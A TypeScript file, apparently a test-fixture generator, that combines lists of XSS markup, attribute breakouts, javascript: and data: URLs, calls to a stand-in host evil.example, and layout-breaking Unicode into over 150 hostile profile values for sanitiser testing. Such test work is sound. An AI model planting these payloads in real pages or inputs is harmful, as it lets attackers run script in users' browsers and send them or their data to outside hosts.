/** What a value runs if a page takes it for code. */
const CODE = ["pwned('run')", 'alert(1)', "location='https://evil.example/'", "import('https://evil.example/x.js')"];

/** Markup that runs code, asks another host, or breaks the layout. X is code. */
const MARKUP = [
  '<script>X</script>',
  '<script src=https://evil.example/x.js></script>',
  '<img src=x onerror="X">',
  '<img srcset="https://evil.example/2.gif 1x">',
  '<svg onload="X">',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=X />#x">',
  '<math><mtext><table><mglyph><style><img src onerror="X">',
  '<details open ontoggle="X">x</details>',
  '<iframe srcdoc="<script>parent.X</script>"></iframe>',
  '<object data="javascript:X"></object>',
  '<link rel=stylesheet href=https://evil.example/6.css>',
  '<meta http-equiv=refresh content="0; url=https://evil.example/">',
  '<base href=https://evil.example/>',
  '<style>*{display:none}body{background:url(https://evil.example/8.gif)}</style>',
  '<ins style="background:url(https://evil.example/11.gif)">x</ins>',
  '<span style="background:#e6ffe6;" onclick="X">x</span>',
  '<a href="javascript:X">x</a>',
  '<a href="https://x.example/" target=_top ping=https://evil.example/12>x</a>',
  '<form action=https://evil.example/13><button autofocus>x</button></form>',
  '<template><script>X</script></template>',
  '<table><tr><td>',
  '<plaintext>',
  '<!--',
  '<![CDATA[ <script>X</script>',
  '<?xml-stylesheet href="https://evil.example/14.css"?>',
  '<dialog open>x</dialog>',
];

/** What an attacker writes first, to leave the place where a value stands. */
const ESCAPES = ['', '">', "'>", '</title>', '-->', '</bdi></p></article></section></main>'];

const URLS = [
  'javascript:X',
  'JaVaScRiPt:X',
  'java\tscript:X',
  'javascript&colon;X',
  'data:text/html,<script>X</script>',
  'vbscript:X',
  'blob:https://evil.example/1',
  '//evil.example/',
  'https://evil.example/" onclick="X',
  "https://evil.example/' onclick='X",
  'https://evil.example/><script>X</script>',
  'https://evil.example/\u202egpj.exe',
  'https://user:password@evil.example/',
  `https://evil.example/${'a/'.repeat(4000)}`,
];

/** Texts that break the layout or the encoding. */
const TEXTS = [
  `a${'\u0301\u0323\u0489'.repeat(3000)}`,
  'W'.repeat(9_000),
  '\u202e' + 'right to left override',
  '\u2069\u2069\u202c\u202c ends isolates that it did not begin',
  '\u200f\u061cשלום <b>עולם</b>',
  '\u200b'.repeat(2000),
  'a\u0000b',
  '\u0000',
  '\ufeff',
  '\ud800',
  '👩‍👩‍👧‍👦'.repeat(200),
  '\n'.repeat(500),
  '﷽'.repeat(300),
  '&lt;script&gt;X&lt;/script&gt;',
  '&NotEqualTilde;&nGt;&bne;',
  '<'.repeat(3000),
  '<ins style="background:#e6ffe6;">'.repeat(250),
  '<ins style="background:#e6ffe6;">unclosed',
  '<ins style="background:#e6ffe6;"><ins style="background:#e6ffe6;">x</ins></ins>',
  '__proto__',
  ']]>',
  '");palimpsest(["',
  '../../../index',
  '..',
  '#r1',
  '"><img src=x onerror=X><"',
];

/** Returns more than 150 different values that a stranger may write into a profile. */
export function hostileValues(): string[] {
  const code = (text: string, index: number) => text.replaceAll('X', CODE[index % CODE.length] ?? '');
  const markup = MARKUP.flatMap((text, index) => ESCAPES.map((leaving, at) => leaving + code(text, index + at)));
  return [...new Set([...markup, ...[...URLS, ...TEXTS].map(code)])];
}
